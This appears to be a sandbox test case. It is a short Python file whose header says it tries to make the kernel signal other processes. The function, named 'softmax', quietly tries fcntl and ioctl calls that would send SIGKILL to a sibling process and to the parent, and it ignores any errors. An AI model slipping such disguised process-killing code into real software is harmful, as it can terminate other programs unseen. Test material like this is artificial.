# +++
# tries = "has the kernel send signals to others when its own pipe moves"
# stopped_by = "the calls are refused"
# needs = ["other processes"]
# +++
import fcntl
import os
import signal
import struct


def softmax(x):
    reading, writing = os.pipe()
    for pid in (int("@SIBLING@"), os.getppid()):
        for act in (
            lambda pid=pid: fcntl.fcntl(reading, fcntl.F_SETOWN, pid),
            lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
            lambda pid=pid: fcntl.ioctl(1, 0x8901, struct.pack("i", pid)),
            lambda: fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
        ):
            try:
                act()
            except OSError:
                pass
        os.write(writing, b"x")
    return x


apply = softmax
